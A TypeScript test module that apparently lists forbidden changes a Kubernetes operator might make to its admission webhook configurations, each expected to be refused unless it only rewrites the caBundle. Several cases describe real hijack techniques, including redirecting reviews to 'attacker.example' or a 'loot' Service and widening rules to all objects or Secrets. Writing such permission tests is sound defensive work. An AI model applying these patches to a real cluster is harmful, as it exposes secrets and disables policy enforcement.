import { ALLOWED, type Attack, attacksOf, group, patch, SHOP } from "./attack.ts";

const ADMISSION = "admissionregistration.k8s.io/v1";
const mutating = group(ADMISSION, "mutatingwebhookconfigurations", "lanyard-webhook");
const validating = group(ADMISSION, "validatingwebhookconfigurations", "lanyard-webhook");
const bundleAlone = "changes the caBundle alone";

/** Each changes the list of webhooks as the suite found it. */
export interface Webhook {
  readonly [field: string]: unknown;
  readonly clientConfig: { readonly service?: object; readonly caBundle?: string };
}
export function webhookAttacks(hooks: readonly [Webhook, ...Webhook[]], path = mutating): Attack[] {
  const [first, ...others] = hooks;
  const withFirst = (change: object) => patch(path, { webhooks: [{ ...first, ...change }, ...others] });
  const withClient = (change: object) => withFirst({ clientConfig: { ...first.clientConfig, ...change } });
  const rules = [{ apiGroups: ["*"], apiVersions: ["*"], operations: ["*"], resources: ["*/*"], scope: "*" }];
  return attacksOf("operator", {
    "is asked about every object": [withFirst({ rules }), bundleAlone],
    "is asked about Secrets": [
      withFirst({ rules: [{ ...rules[0], apiGroups: [""], resources: ["secrets"] }] }),
      bundleAlone,
    ],
    "turns failures into refusals, or the other way round": [
      withFirst({ failurePolicy: first.failurePolicy === "Fail" ? "Ignore" : "Fail" }),
      bundleAlone,
    ],
    "chooses other namespaces": [withFirst({ namespaceSelector: { matchLabels: { a: "b" } } }), bundleAlone],
    "chooses other objects": [withFirst({ objectSelector: { matchLabels: { a: "b" } } }), bundleAlone],
    "drops its conditions": [withFirst({ matchConditions: [{ name: "all", expression: "true" }] }), bundleAlone],
    "holds requests up": [withFirst({ timeoutSeconds: 30 }), bundleAlone],
    "claims side effects": [withFirst({ sideEffects: "NoneOnDryRun" }), bundleAlone],
    "has reviews sent to an address of its own": [
      withClient({ url: "https://attacker.example/", service: null, caBundle: null }),
      bundleAlone,
    ],
    "has reviews sent to another Service": [
      withClient({ service: { ...first.clientConfig.service, namespace: SHOP, name: "loot" } }),
      bundleAlone,
    ],
    "has reviews sent to another path": [
      withClient({ service: { ...first.clientConfig.service, path: "/x" } }),
      bundleAlone,
    ],
    "adds a webhook": [
      patch(path, { webhooks: [...hooks, { ...first, name: "more.lanyard.dev", rules }] }),
      bundleAlone,
    ],
    "takes a webhook away": [patch(path, { webhooks: others }), bundleAlone],
    "labels its configuration": [patch(path, { metadata: { labels: { a: "b" } } }), "does not change the metadata"],
    "writes the caBundle": [withClient({ caBundle: twice(first.clientConfig.caBundle) }), ALLOWED],
  }).map((row) => ({ ...row, does: `${path.includes("/mutating") ? "mutating" : "validating"}: ${row.does}` }));
}
export const webhookPaths = { mutating, validating };

/** Another bundle, which the API server can parse. */
const twice = (caBundle = ""): string =>
  Buffer.from(Buffer.from(caBundle, "base64").toString().repeat(2)).toString("base64");
